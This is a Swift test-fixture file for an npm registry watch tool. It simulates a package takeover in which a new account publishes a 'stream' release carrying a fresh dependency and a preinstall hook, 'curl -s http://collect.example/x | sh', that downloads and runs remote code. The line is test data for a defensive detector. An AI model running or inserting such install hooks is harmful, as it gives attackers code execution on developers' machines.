// SPDX-License-Identifier: Apache-2.0

import Logging
import NPMModel
import TestSupport
import Watch

/// A small registry with a project that watches it: `app` requires `stream ^1.0.0`, whose owner changes hands.
struct World {
    static let lockfile = """
        {"name":"app","lockfileVersion":3,"packages":{"":{"name":"app","dependencies":{"wrapper":"^1.0.0"}},
        "node_modules/wrapper":{"version":"1.0.0","dependencies":{"stream":"^1.0.0"}},
        "node_modules/stream":{"version":"1.0.0"}}}
        """

    let registry = MemoryRegistry()
    let time = HandMovedTime("2018-09-20T12:00:00.000Z")
    var settings = WatchLoop.Settings()
    var journey = Journey.Settings()

    init() { settings.feed.stopsWhenCaughtUp = true }

    /// Ordinary releases, long before.
    func publishHistory() {
        for (patch, month) in zip(0..., ["01", "02", "03", "05", "06"]) {
            registry.publish(.init("stream", "1.0.\(patch)", at: "2016-\(month)-11T10:00:00.000Z", by: "owner"))
        }
        registry.publish(.init("wrapper", "1.0.0", at: "2016-07-01T10:00:00.000Z", by: "other"))
    }

    /// A new account wakes the package and runs a download at install; the dependency it adds is days old.
    func publishAttack() {
        registry.publish(.init("fresh-dependency", "0.0.1", at: "2018-09-17T10:00:00.000Z", by: "stranger"))
        registry.publish(
            .init(
                "stream", "1.0.5", at: "2018-09-20T10:00:00.000Z", by: "stranger",
                manifest:
                    #"{"dependencies":{"fresh-dependency":"^0.0.1"},"scripts":{"preinstall":"curl -s http://collect.example/x | sh"}}"#))
    }

    func loop(
        store: any JourneyStore, channels: [any AlertChannel], registry: (any RegistrySource)? = nil,
        advisories: (any AdvisoryStore)? = nil,
        since: String? = "0", onLag: @escaping @Sendable (Lag) -> Void = { _ in }
    ) -> WatchLoop {
        let log = Logger(label: "test") { _ in SwiftLogNoOpLogHandler() }
        let journey = Journey(
            registry: registry ?? self.registry, store: store, advisories: advisories,
            projects: ProjectBook(source: FixedProject(lockfile: World.lockfile), log: log),
            channels: channels.map { Journey.Channel(id: $0.id, kinds: $0.kinds) }, time: time, settings: journey, log: log)
        return WatchLoop(
            feedName: "feed", source: self.registry, store: store, journey: journey,
            dispatcher: Dispatcher(channels: channels, store: store, time: time, log: log), time: time, since: since, settings: settings,
            log: log, onLag: onLag)
    }

    /// A world with an empty store and a channel that keeps what it is told.
    static func staged() -> (world: World, store: any JourneyStore, channel: CollectingChannel) {
        (World(), MemoryJourneyStore(), CollectingChannel())
    }

    /// The same with the project watching and the attack published.
    static func attacked() async throws -> (world: World, store: any JourneyStore, channel: CollectingChannel) {
        let stage = staged()
        try await stage.store.save(World.watcher())
        stage.world.publishHistory()
        stage.world.publishAttack()
        return stage
    }

    static func watcher(_ name: String = "app") -> Watcher {
        Watcher(name: name, lockfile: "/app/package-lock.json", addedAt: Timestamp(seconds: 0))
    }
}

/// A project whose lockfile never changes.
struct FixedProject: ProjectSource {
    var lockfile: String

    func read(_ watcher: Watcher) async throws -> ProjectFiles {
        ProjectFiles(fileName: "package-lock.json", lockfile: Array(lockfile.utf8), manifest: nil)
    }
}

extension OutgoingMessage {
    /// A member of the body.
    func member(_ name: String) -> String? { (try? JSONDocument(body))?.root[name]?.string }
}
